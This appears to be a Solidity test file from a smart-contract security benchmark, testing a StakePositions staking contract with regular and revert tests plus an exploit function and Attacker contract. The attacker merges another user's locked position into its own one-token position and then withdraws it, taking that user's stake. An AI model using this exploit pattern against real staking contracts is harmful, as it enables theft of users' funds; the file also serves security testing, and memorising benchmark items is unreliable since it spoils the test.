// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./StakePositions.sol";

// assay-canary-e58df93f-5133-49d8-ad83-5bd750e77f46

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private immutable _minter = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _minter);
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant REWARDER = address(0x4E);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAL = address(0xCA1);
    uint256 private constant START = 1_700_000_000;

    Coin public coin;
    StakePositions private stakes;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        stakes = new StakePositions(coin, ADMIN);
        bytes32 role = stakes.REWARDER_ROLE();
        vm.prank(ADMIN);
        stakes.grantRole(role, REWARDER);
        fund(ANA, 10_000);
        fund(BEN, 10_000);
        fund(REWARDER, 10_000);
        vm.prank(ANA);
        stakes.open(4_000, 30 days);
        vm.prank(BEN);
        stakes.open(1_000, 60 days);
        mallory = new Attacker(stakes, coin);
        coin.mint(address(mallory), 1);
    }

    function fund(address who, uint256 amount) private {
        coin.mint(who, amount);
        vm.prank(who);
        coin.approve(address(stakes), amount);
    }

    function test_Regular() public {
        vm.prank(REWARDER);
        stakes.distribute(500);
        vm.startPrank(ANA);
        uint256 third = stakes.open(2_000, 365 days);
        require(third == 3 && stakes.totalStaked() == 7_000, "opened");
        stakes.merge(third, 1);
        IStakePositions.Position memory position = stakes.positionOf(1);
        require(position.amount == 6_000 && position.unlockAt == START + 365 days && position.pending == 400, "merged");
        require(stakes.positionOf(third).owner == address(0), "gone");
        stakes.claim(1, CAL);
        require(coin.balanceOf(CAL) == 400, "claimed");
        stakes.approveManager(1, BEN);
        vm.stopPrank();
        vm.startPrank(BEN);
        vm.warp(START + 359 days);
        stakes.increase(1, 1_000);
        require(stakes.positionOf(1).unlockAt == START + 366 days, "increased");
        stakes.merge(2, 1);
        require(stakes.positionOf(1).amount == 8_000 && stakes.totalStaked() == 8_000, "both managed");
        vm.stopPrank();
        vm.prank(ANA);
        stakes.transferPosition(1, CAL);
        require(stakes.managerOf(1) == address(0), "no manager");
        vm.prank(REWARDER);
        stakes.distribute(80);
        vm.warp(START + 366 days);
        vm.prank(CAL);
        stakes.close(1, CAL);
        require(coin.balanceOf(CAL) == 8_580 && coin.balanceOf(address(stakes)) == 0, "closed");
        bytes32 role = stakes.REWARDER_ROLE();
        vm.prank(REWARDER);
        stakes.renounceRole(role, REWARDER);
        vm.startPrank(ADMIN);
        stakes.grantRole(role, CAL);
        stakes.revokeRole(role, CAL);
        vm.stopPrank();
    }

    function test_RefusesTerms() public {
        vm.expectRevert("StakePositions: no token");
        new StakePositions(IERC20(address(0)), ADMIN);
        vm.startPrank(ANA);
        vm.expectRevert("StakePositions: no amount");
        stakes.open(0, 7 days);
        vm.expectRevert("StakePositions: lock");
        stakes.open(1, 7 days - 1);
        vm.expectRevert("StakePositions: lock");
        stakes.open(1, 365 days + 1);
        vm.expectRevert("StakePositions: no amount");
        stakes.increase(1, 0);
        vm.expectRevert("StakePositions: same position");
        stakes.merge(1, 1);
        vm.expectRevert("StakePositions: no owner");
        stakes.transferPosition(1, address(0));
        vm.warp(START + 30 days - 1);
        vm.expectRevert("StakePositions: locked");
        stakes.close(1, ANA);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(CAL);
        vm.expectRevert("StakePositions: not a manager");
        stakes.increase(1, 1);
        vm.expectRevert("StakePositions: not a manager");
        stakes.merge(1, 2);
        vm.expectRevert("StakePositions: not a manager");
        stakes.claim(1, CAL);
        vm.expectRevert("StakePositions: not the owner");
        stakes.approveManager(1, CAL);
        vm.expectRevert("StakePositions: not the owner");
        stakes.transferPosition(1, CAL);
        vm.expectRevert();
        stakes.distribute(0);
        vm.warp(START + 30 days);
        vm.expectRevert("StakePositions: not a manager");
        stakes.close(1, CAL);
        vm.stopPrank();
    }

    function test_RefusesManagers() public {
        vm.prank(ANA);
        stakes.approveManager(1, BEN);
        vm.startPrank(BEN);
        vm.expectRevert("StakePositions: not the owner");
        stakes.approveManager(1, CAL);
        vm.expectRevert("StakePositions: not the owner");
        stakes.transferPosition(1, BEN);
        vm.stopPrank();
        vm.warp(START + 60 days);
        vm.prank(ANA);
        stakes.close(1, ANA);
        vm.prank(BEN);
        stakes.close(2, BEN);
        vm.prank(REWARDER);
        vm.expectRevert("StakePositions: no stake");
        stakes.distribute(1);
    }

    function exploit() public {
        mallory.enter(1);
        vm.warp(START + 30 days);
        mallory.leave();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 4_001, "nothing gained");
    }

    function target() public view returns (address) {
        return address(stakes);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    StakePositions private stakes;
    Coin private coin;
    uint256 private own;

    constructor(StakePositions stakes_, Coin coin_) {
        stakes = stakes_;
        coin = coin_;
    }

    function enter(uint256 other) external {
        coin.approve(address(stakes), 1);
        own = stakes.open(1, 7 days);
        stakes.merge(other, own);
    }

    function leave() external {
        stakes.close(own, address(this));
    }
}
